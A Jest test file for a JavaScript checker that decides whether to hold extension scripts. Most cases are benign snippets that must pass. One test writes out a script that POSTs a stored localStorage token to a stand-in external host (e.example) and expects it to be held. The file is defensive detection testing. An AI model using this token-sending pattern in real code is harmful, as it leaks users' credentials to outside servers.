import { describe, expect, it } from '@jest/globals';
import { checkScript } from '../../src/analysis/checks/javascript.js';
import { checkScripts } from '../../src/analysis/checks/javascript/check-scripts.js';

const isHeld = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');

describe('the checks do not hold a script', () => {
  it.each<[string, string]>([
    [
      'loads its own theme',
      `const theme = localStorage.getItem("theme") ?? "dark"; const r = await fetch("./themes/" + theme + ".json"); document.body.dataset.theme = theme;`,
    ],
    [
      'saves its own settings',
      `const s = JSON.parse(localStorage.getItem("s") || "{}"); fetch("/api/my/save", { method: "POST", body: JSON.stringify(s) });`,
    ],
    [
      'sends a token to the host',
      `const base = window.location.origin; const t = localStorage.getItem("token"); fetch(base + "/my/route", { headers: { Authorization: t } });`,
    ],
    [
      'opens a socket of the host',
      `const ws = new WebSocket((location.protocol === "https:" ? "wss://" : "ws://") + location.host + "/ws?clientId=" + sessionStorage.getItem("clientId"));`,
    ],
    [
      'loads the button of a well-known service',
      `const s = document.createElement("script"); s.src = "https://storage.ko-fi.com/cdn/widget/Widget_2.js"; document.head.append(s);`,
    ],
    [
      'imports a library, and reads its view',
      `import * as THREE from "https://unpkg.com/three@0.150/build/three.module.js"; const v = localStorage.getItem("view");`,
    ],
    [
      'loads another file of a library that it names',
      `let core = "https://unpkg.com/@lib/core@0.12.9/dist/umd/core.js"; const load = async (url) => { try { importScripts(url || core); } catch { core = core.replace("/umd/", "/esm/"); await import(core); } }; self.onmessage = ({ data: { url } }) => load(url);`,
    ],
    [
      'imports a client of its sockets',
      `import { io } from "https://cdn.socket.io/4.7.3/socket.io.esm.min.js"; const socket = io(); socket.emit("ready", {});`,
    ],
    [
      'sends different things to different servers',
      `const post = (u, b) => fetch(u, { method: "POST", body: b }); post("https://api.github.com/x", null); post("/own", localStorage.getItem("token"));`,
    ],
    ['asks for the global object', `const f = Function("return this")(); f.x = localStorage.getItem("a");`],
    [
      'saves by a key, and asks for releases',
      `document.addEventListener("keydown", (e) => { if (e.ctrlKey && e.key === "s") api.fetchApi("/save", { method: "POST" }); }); fetch("https://api.github.com/repos/a/b").then((r) => r.json()).then((j) => console.log(j.tag_name));`,
    ],
    [
      'inserts a form for a search elsewhere, and a name that is stored',
      `document.body.innerHTML += \`<form action="https://e.example"><input name="q"></form><p>\${localStorage.getItem("name")}</p>\`;`,
    ],
    [
      'inserts a form for a search elsewhere, and sends it',
      'box.innerHTML = `<form action="https://e.example"><input name="q"></form>`; const form = box.querySelector("form"); form.elements.q.value = app.graph.title; form.submit();',
    ],
    [
      'completes the path of a request to the host, which has a setting',
      `import { api } from "../../scripts/api.js"; const call = (path, options) => api.fetchApi(path.startsWith("/") ? path : \`/\${path}\`, options); call("/pack/list?tab=" + localStorage.getItem("tab"), { method: "POST", body: document.cookie });`,
    ],
    [
      'searches a catalogue by an input',
      `const i = document.createElement("input"); i.addEventListener("keydown", async (e) => { if (e.key === "Enter") { const r = await fetch("https://civitai.com/api?q=" + encodeURIComponent(i.value)); show(await r.json()); } });`,
    ],
    [
      'shows an image of another server',
      `const img = new Image(); img.src = "https://e.example/logo.png"; localStorage.setItem("seen", "1"); const seen = localStorage.getItem("seen");`,
    ],
    [
      'shows images from its cache',
      `const cache = await new Promise((r) => { const q = indexedDB.open("c"); q.onsuccess = () => r(q.result); }); const b = cache.transaction("i").objectStore("i").get(1); b.onsuccess = () => { img.src = URL.createObjectURL(b.result); };`,
    ],
    ['starts its own worker', `const w = new Worker(new URL("./w.js", import.meta.url), { type: "module" });`],
    [
      'sends the token of a form to the host',
      `const csrf = document.cookie.split("; ").find((c) => c.startsWith("csrftoken=")).split("=")[1]; fetch("/api/x", { headers: { "X-CSRFToken": csrf } });`,
    ],
    [
      'sends a token to an address that its callers choose',
      `export async function request(url, o) { const token = localStorage.getItem("token"); return fetch(url, { ...o, headers: { Authorization: token } }); }`,
    ],
    ['binds a function to itself', 'let h = n; const f = () => { h = h.bind(h, el); h(); }; f();'],
    [
      'shows a readable file of another server',
      `const md = await (await fetch("https://raw.githubusercontent.com/a/b/README.md")).text(); el.innerHTML = marked.parse(md);`,
    ],
    [
      'copies a command on a click',
      `button.addEventListener("click", async () => { await navigator.clipboard.writeText("pip install x"); });`,
    ],
    [
      'loads a library from the package',
      `app.registerExtension({ name: "a", setup() { const s = document.createElement("script"); s.src = new URL("./lib.js", import.meta.url).href; document.head.append(s); } });`,
    ],
    [
      'shares a workflow by a command',
      `app.registerExtension({ name: "a", commands: [{ id: "x", function: async () => { const p = await app.graphToPrompt(); await fetch("https://e.example/deploy", { method: "POST", body: JSON.stringify(p) }); } }] });`,
    ],
    [
      'pastes a workflow',
      `document.addEventListener("paste", (e) => { const d = e.clipboardData.getData("text/plain"); if (d.startsWith("{")) app.loadGraphData(JSON.parse(d)); });`,
    ],
    ['makes a function of an expression', `const fn = new Function("a", "return " + expr); const r = fn(1);`],
    [
      'adds an audio module of a constant',
      `const code = \`class P extends AudioWorkletProcessor {} registerProcessor("p", P)\`; ctx.audioWorklet.addModule(URL.createObjectURL(new Blob([code], { type: "application/javascript" })));`,
    ],
    [
      'opens an image of the host',
      `const url = api.apiURL("/view?filename=" + encodeURIComponent(name)); img.src = url; window.open(url);`,
    ],
    [
      'changes requests to the host',
      `const orig = api.fetchApi; api.fetchApi = async function (r, o) { if (r === "/prompt") patch(o); return orig.call(this, r, o); };`,
    ],
    [
      'changes answers of the host',
      `const orig = window.fetch; window.fetch = async (...a) => { const r = await orig(...a); if (a[0].includes("/object_info")) patch(r); return r; };`,
    ],
    [
      'links to an issue',
      `const a = document.createElement("a"); a.href = "https://github.com/a/b/issues/new?title=" + encodeURIComponent(title); a.click();`,
    ],
    [
      'shows news and its last tab',
      `const id = localStorage.getItem("lastTab"); tabs.forEach((t) => t.classList.toggle("on", t.id === id)); fetch("https://e.example/news.json").then((r) => r.json()).then(render);`,
    ],
    [
      'sends its own item to its own service',
      `const save = (k) => localStorage.setItem("my_key", k);
       fetch("https://e.example/", { headers: { Authorization: localStorage.getItem("my_key") } });`,
    ],
    [
      'moves its settings to other names',
      `const get = (k) => localStorage.getItem("my_" + k) ?? localStorage.getItem(k);
       const set = (k, v) => localStorage.setItem("my_" + k, v);
       set("host", 1); fetch("https://e.example/?" + get("host"));`,
    ],
    [
      'maps a module to a well-known address',
      `const m = document.createElement("script"); m.type = "importmap"; m.textContent = JSON.stringify({ imports: { three: "https://unpkg.com/three@0.160.0/build/three.module.js" } }); document.head.append(m);`,
    ],
    [
      'shows an image that it fetches',
      `fetch("https://e.example/a.png").then((r) => r.blob()).then((b) => { img.src = URL.createObjectURL(b); });`,
    ],
    [
      'tells the names of its functions',
      `const load = () => 1; fetch("https://e.example/?step=" + load.name + JSON.stringify({ a: 1 }));`,
    ],
  ])('that %s', (_what, source) => expect(isHeld(source)).toBe(false));

  it.each([
    ['shorter', ''],
    ['longer', '// A comment that makes the file longer than the other one.\n'.repeat(9)],
  ])('that sends a token to an address of the host from another file, which is %s', (_what, comment) => {
    const files = (address: string) => [
      {
        path: 'send.js',
        source:
          'import { API } from "./where.js";\nfetch(API, { method: "POST", body: localStorage.getItem("token") });',
      },
      { path: 'where.js', source: `${comment}export const API = ${JSON.stringify(address)};` },
    ];
    const levels = (address: string) => checkScripts(files(address)).map(({ level }) => level);
    expect([levels('/own/save'), levels('https://e.example')]).toEqual([[], ['hold']]);
  });

  it('but warn about one that no browser can run', () =>
    expect(checkScript('const a = <b>;')).toMatchObject([{ level: 'warn', line: 1 }]));

  it('but read no more than 200,000 characters of scripts that the host does not serve', () => {
    const scripts = (isUnserved: boolean) => [
      { path: 'a.js', source: `f(${'1, '.repeat(50_000)}1);`, isUnserved },
      { path: 'b.js', source: `g(${'1, '.repeat(50_001)}1); const a = <b>;`, isUnserved },
    ];
    const paths = (isUnserved: boolean) => checkScripts(scripts(isUnserved)).map(({ path }) => path);
    expect([paths(false), paths(true)]).toEqual([['b.js'], []]);
  });
});
